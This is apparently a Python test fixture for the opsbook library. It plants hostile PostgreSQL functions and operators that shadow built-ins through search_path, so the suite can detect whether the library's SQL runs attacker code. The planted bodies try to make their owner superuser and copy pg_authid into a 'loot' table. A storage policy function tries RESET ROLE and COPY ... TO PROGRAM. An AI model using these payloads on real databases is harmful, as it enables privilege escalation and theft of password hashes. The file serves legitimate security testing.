"""A hostile database for the suite: every function and operator that opsbook's SQL calls, planted by roles that
hold only CREATE on `public` or CREATE on the database, so that a session that resolves names outside pg_catalog
runs the attacker's code. Each planted function logs a marker (a WARNING in the server's log, which a read-only
transaction cannot stop) and then tries to make its owner superuser and to copy pg_authid."""
from __future__ import annotations

import ast
import re
import uuid
from pathlib import Path

import pglast
import psycopg
from pglast import visitors

ROOT = Path(__file__).resolve().parents[1]
LIB = ROOT / "lib" / "opsbook"
# Types an attacker offers as a closer match than the built-in argument type (psycopg binds int2 for small ints,
# name columns meet text parameters, arrays of every catalogue type).
BAIT_TYPES = ("name", "text", "varchar", '"char"', "int2", "int4", "int8", "numeric", "float8", "oid", "regclass",
              "bool", "text[]", "name[]", "oid[]", "int2[]", "int4[]", "int8[]", "anyelement", "anyarray")
OPERATORS = ("=", "<>", "~", "!~", "~~", "~~*", "||", "<", ">", "<=", ">=", "+", "-", "*", "/")
OPERAND_PAIRS = (("name", "text"), ("text", "name"), ("name", "name"), ("text", "text"), ("oid", "int4"),
                 ("int2", "int4"), ("int8", "numeric"), ("regclass", "oid"), ('"char"', "text"), ("name", "varchar"))


class _Calls(visitors.Visitor):
    def __init__(self):
        self.names: set[str] = set()

    def visit_FuncCall(self, parent, node):  # noqa: N802 - pglast's visitor protocol
        self.names.add(node.funcname[-1].sval)


def _parse_into(calls: _Calls, text: str) -> bool:
    text = re.sub(r"\{\{?\s*\w+\s*\}?\}", "placeholder_ident", text)  # {{pgss}}, {table}: identifiers
    text = re.sub(r"(?<![:\w\]\[])\:(?!:)([A-Za-z_]\w*)", "NULL", text)  # :name parameters
    text = re.sub(r"%\(\w+\)s|%s", "NULL", text)  # psycopg parameters
    try:
        calls(pglast.parse_sql(text))
    except Exception:  # noqa: BLE001 - Python strings that are not SQL
        return False
    return True


def called_functions() -> set[str]:
    """The name of every function opsbook's SQL calls, read by PostgreSQL's own parser (pglast): the files under
    lib/opsbook/database/sql/ and every string in the library's Python that parses as a SELECT/WITH statement."""
    calls = _Calls()
    for path in sorted((LIB / "database" / "sql").rglob("*.sql")):
        assert _parse_into(calls, path.read_text()), f"{path} does not parse"
    for path in sorted(LIB.rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.Constant) and isinstance(node.value, str) \
                    and re.match(r"\s*(SELECT|WITH)\b", node.value, re.I):
                _parse_into(calls, node.value)
    return calls.names


def _ident(name: str) -> str:
    return '"' + name.replace('"', '""') + '"'


def builtin_overloads(conn: psycopg.Connection, functions: set[str]) -> list[tuple]:
    """(name, nargs, argument types) of each pg_catalog overload of `functions` (read before anything is planted)."""
    return conn.execute(
        "SELECT p.proname, p.pronargs, array(SELECT format_type(t, NULL) FROM unnest(p.proargtypes::oid[]) t) "
        "FROM pg_proc p WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.proname = ANY(%s) "
        "AND p.pronargs <= 4 AND p.provariadic = 0", (sorted(functions),)).fetchall()


def plant_sql(schema: str, attacker: str, marker: str, overloads: list[tuple]) -> list[str]:
    """CREATE statements for every hijack in `schema`: per function, its own signatures and every bait type in
    each argument position; the operators above for the operand pairs above."""
    signatures: set[tuple[str, tuple[str, ...]]] = set()
    for name, nargs, args in overloads:
        if not nargs:
            signatures.add((name, ()))
            continue
        signatures.add((name, tuple(args)))
        for bait in BAIT_TYPES:
            signatures.add((name, (bait,) * nargs))
            for i in range(nargs):
                signatures.add((name, tuple(bait if j == i else a for j, a in enumerate(args))))
    body = (f"BEGIN RAISE WARNING '{marker} %', %L; "
            "BEGIN PERFORM pg_catalog.set_config('default_transaction_read_only', 'off', false); "
            f"EXECUTE 'ALTER ROLE {_ident(attacker)} SUPERUSER'; "
            f"EXECUTE 'CREATE TABLE {_ident(schema)}.loot AS SELECT * FROM pg_catalog.pg_authid'; "
            "EXCEPTION WHEN OTHERS THEN NULL; END; RETURN NULL; END")
    out = []
    for name, args in sorted(signatures):
        poly = any(a in ("anyelement", "anyarray") for a in args)
        ret = "anyelement" if poly and "anyelement" in args else "anyarray" if poly else "text"
        sig = ", ".join(a for a in args if a not in ("any", '"any"', "internal", "cstring"))
        if len(sig.split(", ")) != len(args) and args:
            continue
        fn_body = body.replace("%L", "'" + name.replace("'", "''") + "'")
        out.append(f"CREATE OR REPLACE FUNCTION {_ident(schema)}.{_ident(name)}({sig}) RETURNS {ret} "
                   f"LANGUAGE plpgsql AS $hijack${fn_body}$hijack$;")
    for i, (left, right) in enumerate(OPERAND_PAIRS):
        fn = f"op_hijack_{i}"
        out.append(f"CREATE OR REPLACE FUNCTION {_ident(schema)}.{fn}({left}, {right}) RETURNS bool "
                   f"LANGUAGE plpgsql AS $hijack${body.replace('%L', repr(fn)).replace('RETURN NULL', 'RETURN true')}"
                   "$hijack$;")
        for op in OPERATORS:
            out.append(f"CREATE OPERATOR {_ident(schema)}.{op} (LEFTARG = {left}, RIGHTARG = {right}, "
                       f"FUNCTION = {_ident(schema)}.{fn});")
    return out


class HostileDatabase:
    """Two attackers on one database: `ob_evil_public` (CREATE on public, as PostgreSQL 13/14 grant by default)
    plants in public; `ob_evil_db` (CREATE on the database) makes a schema named like opsbook's login role, first on
    the default search path, and plants there. A storage policy for anon calls a function that tries RESET ROLE,
    a write and COPY ... TO PROGRAM."""

    def __init__(self, server, dbname: str, login_role: str):
        self.server, self.dbname, self.login_role = server, dbname, login_role
        self.admin_conninfo = server.conninfo(dbname=dbname)
        self.marker = f"opsbook-hijack-{uuid.uuid4().hex[:8]}"
        self.attackers = ("ob_evil_public", "ob_evil_db")
        self.copy_marker = Path(f"/tmp/{self.marker}-copy-program")

    def plant(self) -> int:
        functions = called_functions()
        with psycopg.connect(self.admin_conninfo, autocommit=True) as admin:
            overloads = builtin_overloads(admin, functions)
            for role in self.attackers:
                admin.execute(f"DROP ROLE IF EXISTS {role}")
                admin.execute(f"CREATE ROLE {role} LOGIN")
            admin.execute("GRANT CREATE, USAGE ON SCHEMA public TO ob_evil_public")
            admin.execute(f"GRANT CREATE ON DATABASE {_ident(self.dbname)} TO ob_evil_db")
            admin.execute("SET ROLE ob_evil_db")
            admin.execute(f"CREATE SCHEMA {_ident(self.login_role)}")
            n = 0
            for schema, role in (("public", "ob_evil_public"), (self.login_role, "ob_evil_db")):
                admin.execute(f"SET ROLE {role}")
                for statement in plant_sql(schema, role, self.marker, overloads):
                    try:
                        admin.execute(statement)
                        n += 1
                    except psycopg.Error:  # a pseudo-type this language cannot take: that variant cannot exist
                        pass
            admin.execute("RESET ROLE")
            admin.execute("SET search_path = pg_catalog")  # the set-up itself must not meet what it planted
            has_storage = admin.execute("SELECT to_regclass('storage.objects') IS NOT NULL").fetchone()[0]
            if has_storage:  # a policy for anon whose function tries to leave the role it is evaluated as
                admin.execute(f"""
                    CREATE FUNCTION public.ob_evil_policy(b text) RETURNS bool LANGUAGE plpgsql AS $p$
                    BEGIN
                      RAISE WARNING '{self.marker} %', 'storage policy';
                      BEGIN RESET ROLE; EXCEPTION WHEN OTHERS THEN NULL; END;
                      BEGIN EXECUTE 'COPY (SELECT 1) TO PROGRAM ''touch {self.copy_marker}''';
                      EXCEPTION WHEN OTHERS THEN NULL; END;
                      BEGIN EXECUTE 'ALTER ROLE ob_evil_public SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
                      RETURN true;
                    END $p$;
                    ALTER FUNCTION public.ob_evil_policy(text) OWNER TO ob_evil_public;
                    CREATE POLICY ob_evil_listing ON storage.objects FOR SELECT TO anon
                      USING (public.ob_evil_policy(bucket_id));""")
        return n

    def hits(self) -> list[str]:
        """The marker's lines in the server's log: every time planted code ran."""
        return [line for line in self.server.log_file.read_text(errors="replace").splitlines()
                if self.marker in line]

    def escalated(self) -> list[str]:
        with psycopg.connect(self.admin_conninfo, autocommit=True, options="-c search_path=pg_catalog") as admin:
            supers = [r for (r,) in admin.execute("SELECT rolname FROM pg_roles WHERE rolsuper AND rolname = ANY(%s)",
                                                  (list(self.attackers),))]
            loot = [r for (r,) in admin.execute(
                "SELECT n.nspname FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace "
                "WHERE c.relname = 'loot'")]
        return supers + [f"{s}.loot" for s in loot] + ([str(self.copy_marker)] if self.copy_marker.exists() else [])

    def control_call(self) -> None:
        """What a session with the default search path meets: proves the planted code works and is logged (as a
        plain role, so its payload fails: a superuser's session would be taken over, which is the point)."""
        with psycopg.connect(self.server.conninfo(dbname=self.dbname, user="ob_evil_public"), autocommit=True) as c:
            c.execute("SELECT quote_ident(%s::name)", ("x",))

    def remove(self) -> None:
        with psycopg.connect(self.admin_conninfo, autocommit=True, options="-c search_path=pg_catalog") as admin:
            admin.execute("DROP POLICY IF EXISTS ob_evil_listing ON storage.objects") \
                if admin.execute("SELECT to_regclass('storage.objects')").fetchone()[0] else None
            for role in self.attackers:
                admin.execute(f"DROP OWNED BY {role} CASCADE")
                admin.execute(f"DROP ROLE IF EXISTS {role}")
        self.copy_marker.unlink(missing_ok=True)
